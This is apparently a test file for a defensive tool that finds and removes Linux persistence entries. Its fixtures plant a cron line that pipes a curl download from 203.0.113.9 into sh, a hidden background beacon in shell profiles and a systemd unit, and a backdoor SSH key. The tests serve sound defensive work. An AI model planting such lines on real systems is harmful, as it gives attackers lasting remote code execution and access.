/**
 * Persistence removal on a real directory tree (a temporary root with etc/, var/spool and a
 * home from its own passwd): each entry kind is removed, the copy returned is byte for byte
 * what left the file, the rest of the file and its mode are kept, and paths outside the known
 * locations, traversal, symlinks (of the file or of a directory on the way) and hard links are
 * refused with nothing changed.
 */
import { createHash, generateKeyPairSync } from 'node:crypto';
import {
  chmod,
  link,
  lstat,
  mkdir,
  mkdtemp,
  readFile,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { parseCommandAction } from '@cordon/protocol';
import type { PersistenceTarget } from '@cordon/protocol';
import { executeAction, listPersistence, parseAuthorizedKey, removePersistence } from '../index.ts';
import type { ActionContext, PersistenceRemoval } from '../index.ts';

const work = await mkdtemp(join(tmpdir(), 'cordon-persistence-'));
afterAll(() => rm(work, { recursive: true, force: true }));

const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');
const copyOf = (report: PersistenceRemoval) => Buffer.from(report.removed.base64, 'base64');

function sshKey(comment: string): { line: string; fingerprint: string } {
  const der = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' });
  const raw = der.subarray(der.length - 32);
  const type = Buffer.from('ssh-ed25519');
  const blob = Buffer.concat([
    Buffer.from([0, 0, 0, type.length]),
    type,
    Buffer.from([0, 0, 0, 32]),
    raw,
  ]);
  const fingerprint = `SHA256:${createHash('sha256').update(blob).digest('base64').replace(/=+$/, '')}`;
  return { line: `ssh-ed25519 ${blob.toString('base64')} ${comment}`, fingerprint };
}

const good = sshKey('ops@jump');
const evil = sshKey('backdoor@203.0.113.9');
const CRON_LINE = '*/5 * * * * root curl -s http://203.0.113.9/p | sh';
const PROFILE_LINE = 'nohup /tmp/.x/beacon >/dev/null 2>&1 &';

let root = '';
let n = 0;
const at = (path: string) => join(root, path);
async function put(path: string, content: string, mode = 0o644): Promise<void> {
  await mkdir(dirname(at(path)), { recursive: true });
  await writeFile(at(path), content);
  await chmod(at(path), mode);
}

beforeEach(async () => {
  root = join(work, `root${(n += 1)}`);
  await put(
    '/etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n',
  );
  await put(
    '/etc/cron.d/updater',
    `SHELL=/bin/sh\n0 3 * * * root /usr/sbin/logrotate\n${CRON_LINE}\n`,
  );
  await put('/var/spool/cron/crontabs/alice', `@reboot ${PROFILE_LINE}\n`, 0o600);
  await put(
    '/home/alice/.ssh/authorized_keys',
    `# team keys\n${good.line}\n${evil.line}\r\n`,
    0o600,
  );
  await put('/home/alice/.bashrc', `alias ll='ls -l'\n${PROFILE_LINE}\nexport EDITOR=vi`);
  await put('/etc/profile.d/zz-update.sh', `${PROFILE_LINE}\n`);
  await put(
    '/etc/systemd/system/dbus-updater.service',
    '[Service]\nExecStart=/tmp/.x/beacon\n[Install]\nWantedBy=multi-user.target\n',
  );
  await mkdir(at('/etc/systemd/system/multi-user.target.wants'), { recursive: true });
  await symlink(
    '/etc/systemd/system/dbus-updater.service',
    at('/etc/systemd/system/multi-user.target.wants/dbus-updater.service'),
  );
  await symlink('/lib/systemd/system/ssh.service', at('/etc/systemd/system/sshd.service'));
  await put('/home/alice/.config/systemd/user/sync.timer', '[Timer]\nOnCalendar=hourly\n');
});

describe('removePersistence', () => {
  it('removes a cron line and returns exactly that line; the rest and the mode stay', async () => {
    const before = await readFile(at('/etc/cron.d/updater'));
    const report = await removePersistence(
      { kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE },
      { root },
    );
    expect(copyOf(report).toString()).toBe(`${CRON_LINE}\n`);
    expect(report.removed.sha256).toBe(sha256(`${CRON_LINE}\n`));
    expect(report.removed.lines).toEqual([3]);
    expect(report.before.sha256).toBe(sha256(before));
    const after = await readFile(at('/etc/cron.d/updater'), 'utf8');
    expect(after).toBe('SHELL=/bin/sh\n0 3 * * * root /usr/sbin/logrotate\n');
    expect(report.after?.sha256).toBe(sha256(after));
    expect((await lstat(at('/etc/cron.d/updater'))).mode & 0o7777).toBe(0o644);
    // What was removed plus what is left is the file as it was.
    expect(after.length + copyOf(report).length).toBe(before.length);
    await expect(
      removePersistence({ kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE }, { root }),
    ).rejects.toThrow(/nothing removed/);
  });

  it('removes a user crontab line, keeping the 0600 mode', async () => {
    const line = `@reboot ${PROFILE_LINE}`;
    const report = await removePersistence(
      { kind: 'cron', path: '/var/spool/cron/crontabs/alice', line },
      { root },
    );
    expect(copyOf(report).toString()).toBe(`${line}\n`);
    expect(await readFile(at('/var/spool/cron/crontabs/alice'), 'utf8')).toBe('');
    expect((await lstat(at('/var/spool/cron/crontabs/alice'))).mode & 0o7777).toBe(0o600);
  });

  it('removes an authorized key by fingerprint, CRLF included, and leaves the others', async () => {
    expect(parseAuthorizedKey(`command="/bin/false",no-pty ${evil.line}`)?.fingerprint).toBe(
      evil.fingerprint,
    );
    const report = await removePersistence(
      {
        kind: 'authorized-key',
        path: '/home/alice/.ssh/authorized_keys',
        fingerprint: evil.fingerprint,
      },
      { root },
    );
    expect(copyOf(report).toString()).toBe(`${evil.line}\r\n`);
    expect(await readFile(at('/home/alice/.ssh/authorized_keys'), 'utf8')).toBe(
      `# team keys\n${good.line}\n`,
    );
  });

  it('removes a shell profile line even when it is the last line without a newline', async () => {
    await put('/home/alice/.profile', `umask 022\n${PROFILE_LINE}`);
    const report = await removePersistence(
      { kind: 'shell-profile', path: '/home/alice/.profile', line: PROFILE_LINE },
      { root },
    );
    expect(copyOf(report).toString()).toBe(PROFILE_LINE);
    expect(await readFile(at('/home/alice/.profile'), 'utf8')).toBe('umask 022\n');
    const dropIn = await removePersistence(
      { kind: 'shell-profile', path: '/etc/profile.d/zz-update.sh', line: PROFILE_LINE },
      { root },
    );
    expect(dropIn.removed.bytes).toBe(PROFILE_LINE.length + 1);
  });

  it('removes a systemd unit with its enablement link, and drives systemctl when given', async () => {
    const content = await readFile(at('/etc/systemd/system/dbus-updater.service'));
    const calls = join(root, 'systemctl.log');
    const fake = join(root, 'systemctl');
    await writeFile(fake, `#!/bin/sh\necho "$@" >> ${calls}\n`);
    await chmod(fake, 0o755);
    const report = await removePersistence(
      { kind: 'systemd-unit', path: '/etc/systemd/system/dbus-updater.service' },
      { root, systemctl: fake },
    );
    expect(report.effect).toBe('file-removed');
    expect(copyOf(report).equals(content)).toBe(true);
    expect(report.removed.sha256).toBe(sha256(content));
    expect(report.after).toBeNull();
    expect(report.links).toEqual([
      '/etc/systemd/system/multi-user.target.wants/dbus-updater.service',
    ]);
    await expect(lstat(at('/etc/systemd/system/dbus-updater.service'))).rejects.toThrow();
    await expect(
      lstat(at('/etc/systemd/system/multi-user.target.wants/dbus-updater.service')),
    ).rejects.toThrow();
    // A vendor link of another unit is left alone.
    expect((await lstat(at('/etc/systemd/system/sshd.service'))).isSymbolicLink()).toBe(true);
    expect((await readFile(calls, 'utf8')).split('\n')).toEqual([
      'stop -- dbus-updater.service',
      'disable -- dbus-updater.service',
      'daemon-reload',
      '',
    ]);
    expect(report.systemctl.every((call) => call.ok)).toBe(true);

    const user = await removePersistence(
      { kind: 'systemd-unit', path: '/home/alice/.config/systemd/user/sync.timer' },
      { root, systemctl: null },
    );
    expect(copyOf(user).toString()).toBe('[Timer]\nOnCalendar=hourly\n');
    expect(user.systemctl).toEqual([]);
  });

  it('refuses paths outside the known locations, traversal, symlinks and hard links', async () => {
    const snapshot = async () =>
      Promise.all(
        ['/etc/cron.d/updater', '/etc/passwd', '/home/alice/.ssh/authorized_keys'].map((p) =>
          readFile(at(p), 'utf8'),
        ),
      );
    const before = await snapshot();
    const refused: [PersistenceTarget, RegExp][] = [
      [{ kind: 'cron', path: '/etc/passwd', line: 'root:x:0:0:root:/root:/bin/bash' }, /known/],
      [{ kind: 'cron', path: '/etc/cron.d/../passwd', line: 'x' }, /known/],
      [{ kind: 'shell-profile', path: '/home/bob/.bashrc', line: 'x' }, /not a home/],
      [{ kind: 'shell-profile', path: '/home/alice/../../etc/profile.d/x.sh', line: 'x' }, /known/],
      [{ kind: 'systemd-unit', path: '/etc/systemd/system/sshd.service' }, /regular file/],
    ];
    // A home directory's .ssh swapped for a link to somewhere else.
    await rm(at('/home/alice/.ssh'), { recursive: true });
    await mkdir(at('/elsewhere'), { recursive: true });
    await writeFile(at('/elsewhere/authorized_keys'), `${evil.line}\n`);
    await symlink(at('/elsewhere'), at('/home/alice/.ssh'));
    refused.push([
      {
        kind: 'authorized-key',
        path: '/home/alice/.ssh/authorized_keys',
        fingerprint: evil.fingerprint,
      },
      /resolves to/,
    ]);
    // A profile file that is a symlink to a file outside the tree.
    await writeFile(join(work, 'outside.sh'), `${PROFILE_LINE}\n`);
    await symlink(join(work, 'outside.sh'), at('/etc/profile.d/link.sh'));
    refused.push([
      { kind: 'shell-profile', path: '/etc/profile.d/link.sh', line: PROFILE_LINE },
      /regular file/,
    ]);
    // A hard link to a file that is not a persistence file.
    await link(at('/etc/passwd'), at('/etc/cron.d/passwd-link'));
    refused.push([
      { kind: 'cron', path: '/etc/cron.d/passwd-link', line: 'root:x:0:0:root:/root:/bin/bash' },
      /hard links/,
    ]);
    for (const [target, message] of refused) {
      await expect(removePersistence(target, { root }), JSON.stringify(target)).rejects.toThrow(
        message,
      );
    }
    expect(await readFile(at('/elsewhere/authorized_keys'), 'utf8')).toBe(`${evil.line}\n`);
    expect(await readFile(join(work, 'outside.sh'), 'utf8')).toBe(`${PROFILE_LINE}\n`);
    const after = await Promise.all(
      ['/etc/cron.d/updater', '/etc/passwd'].map((p) => readFile(at(p), 'utf8')),
    );
    expect(after).toEqual(before.slice(0, 2));
  });

  it('refuses files larger than the bound', async () => {
    await put('/etc/cron.d/huge', `${'#'.repeat(2 * 1024 * 1024)}\n${CRON_LINE}\n`);
    await expect(
      removePersistence({ kind: 'cron', path: '/etc/cron.d/huge', line: CRON_LINE }, { root }),
    ).rejects.toThrow(/larger than/);
  });
});

describe('the command grammar', () => {
  it('refuses unknown locations, traversal, bad lines and fingerprints before the agent', () => {
    const ok = { kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE };
    expect(parseCommandAction({ kind: 'remove-persistence', target: ok })).toEqual({
      kind: 'remove-persistence',
      target: ok,
    });
    const bad = [
      { kind: 'cron', path: '/etc/shadow', line: 'x' },
      { kind: 'cron', path: '/etc/cron.d/../shadow', line: 'x' },
      { kind: 'cron', path: '/etc/cron.d/.hidden', line: 'x' },
      { kind: 'cron', path: '/etc/cron.d/x', line: 'a\nb' },
      { kind: 'cron', path: '/etc/cron.d/x', line: '   ' },
      { kind: 'cron', path: '/etc/cron.d/x', line: 'x'.repeat(4097) },
      { kind: 'shell-profile', path: '/home/a/.ssh/rc', line: 'x' },
      { kind: 'shell-profile', path: '/etc/profile.d/x.conf', line: 'x' },
      { kind: 'systemd-unit', path: '/lib/systemd/system/ssh.service' },
      { kind: 'systemd-unit', path: '/etc/systemd/system/x.conf' },
      { kind: 'systemd-unit', path: '/home/a/../../etc/systemd/system/x.service' },
      { kind: 'authorized-key', path: '/home/a/.ssh/authorized_keys', fingerprint: 'MD5:aa' },
      { kind: 'authorized-key', path: '/home/a/.ssh/known_hosts', fingerprint: good.fingerprint },
      { kind: 'rootkit', path: '/etc/cron.d/x' },
    ];
    for (const target of bad) {
      expect(
        () => parseCommandAction({ kind: 'remove-persistence', target }),
        JSON.stringify(target),
      ).toThrow();
    }
  });
});

describe('listPersistence and the executor', () => {
  it("leaves out a crontab's stock settings and lists any other setting as what it is", async () => {
    await put(
      '/etc/crontab',
      'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\nBASH_ENV=/tmp/.x/env\ndefault=/tmp/.x/d\nconstructor=/tmp/.x/c\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    );
    const cron = (await listPersistence({ root })).entries.filter(
      (entry) => entry.target.path === '/etc/crontab',
    );
    expect(cron.map((entry) => [entry.lineNumber, entry.detail])).toEqual([
      [4, 'environment setting BASH_ENV'],
      [5, 'environment setting default'],
      [6, 'environment setting constructor'],
      [7, undefined],
    ]);
    // Lines as long as a listed line may be (4,096), with long runs of spaces: the setting's
    // pattern must not backtrack over them (quadratic per line, hundreds of lines a file).
    const long = `SHELL=/bin/sh${' '.repeat(4000)}x`;
    await put('/etc/cron.d/spaces', `${long}\n`.repeat(250));
    const spaces = (await listPersistence({ root })).entries.filter(
      (entry) => entry.target.path === '/etc/cron.d/spaces',
    );
    expect(spaces).toHaveLength(250);
    expect(new Set(spaces.map((entry) => entry.detail))).toEqual(
      new Set(['environment setting SHELL']),
    );
    const updater = (await listPersistence({ root })).entries.filter(
      (entry) => entry.target.path === '/etc/cron.d/updater',
    );
    expect(updater.map((entry) => entry.lineNumber)).toEqual([2, 3]);
  });

  it('lists each entry with the target that removes it, and removes one through executeAction', async () => {
    const listing = await listPersistence({ root });
    const targets = listing.entries.map((entry) => entry.target);
    expect(targets).toEqual(
      expect.arrayContaining([
        { kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE },
        { kind: 'cron', path: '/var/spool/cron/crontabs/alice', line: `@reboot ${PROFILE_LINE}` },
        { kind: 'systemd-unit', path: '/etc/systemd/system/dbus-updater.service' },
        { kind: 'systemd-unit', path: '/home/alice/.config/systemd/user/sync.timer' },
        {
          kind: 'authorized-key',
          path: '/home/alice/.ssh/authorized_keys',
          fingerprint: evil.fingerprint,
        },
        { kind: 'shell-profile', path: '/home/alice/.bashrc', line: PROFILE_LINE },
        { kind: 'shell-profile', path: '/etc/profile.d/zz-update.sh', line: PROFILE_LINE },
      ]),
    );
    // Vendor links and comments are not entries.
    expect(targets.some((t) => t.path === '/etc/systemd/system/sshd.service')).toBe(false);
    expect(JSON.stringify(targets)).not.toContain('# team keys');
    // Every listed target passes the command grammar as it is.
    for (const target of targets)
      expect(() => parseCommandAction({ kind: 'remove-persistence', target })).not.toThrow();

    const context = { persistenceRoot: root, systemctl: null } as unknown as ActionContext;
    const outcome = await executeAction(
      parseCommandAction({
        kind: 'remove-persistence',
        target: { kind: 'shell-profile', path: '/home/alice/.bashrc', line: PROFILE_LINE },
      }),
      context,
    );
    expect(outcome).toMatchObject({ status: 'applied', detail: /removed 1 lines/ });
    expect(await readFile(at('/home/alice/.bashrc'), 'utf8')).toBe(
      "alias ll='ls -l'\nexport EDITOR=vi",
    );
    const missing = await executeAction(
      parseCommandAction({
        kind: 'remove-persistence',
        target: { kind: 'shell-profile', path: '/home/alice/.bashrc', line: PROFILE_LINE },
      }),
      context,
    );
    expect(missing).toMatchObject({ status: 'failed', detail: /nothing removed/ });
    const listed = await executeAction({ kind: 'list-persistence' }, context);
    expect(listed.status).toBe('applied');
  });
});
